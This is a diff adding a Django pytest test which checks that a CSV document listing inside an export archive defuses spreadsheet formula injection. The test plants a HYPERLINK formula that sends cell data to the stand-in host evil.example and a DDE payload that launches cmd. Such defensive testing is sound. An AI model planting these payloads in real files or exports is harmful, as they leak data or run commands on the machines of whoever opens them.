@@ -162,6 +162,25 @@ def test_a_document_that_keeps_failing_is_listed_and_the_batch_still_finishes(
 
 
 @pytest.mark.django_db
+def test_the_list_of_documents_runs_no_formula(org: Any, staff: User) -> None:
+    org.name = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
+    org.save()
+    batch = PrintBatch.objects.create(requested_by=staff, fiscal_year=2566, scope="x")
+    batch.jobs.create(
+        organisation=org,
+        kind="plan",
+        fiscal_year=2566,
+        status=PrintJob.Status.FAILED,
+        error="-1+cmd|' /C calc'!A0",
+    )
+    archive.assemble(batch)
+    listing = zip_of(staff, batch).read("รายการเอกสาร.csv").decode("utf-8-sig")
+    [_, row] = list(csv.reader(io.StringIO(listing)))
+    assert row[0] == "'" + org.name and row[4] == "'-1+cmd|' /C calc'!A0"
+    assert row[3] == "2566"
+
+
+@pytest.mark.django_db
 def test_it_refuses_a_year_without_documents_in_thai(demo: None, now_runner: None) -> None:
     response = ask(User.objects.get(username="bangkao-staff"), year="๒๕๙๐")
     assert response.status_code == 200
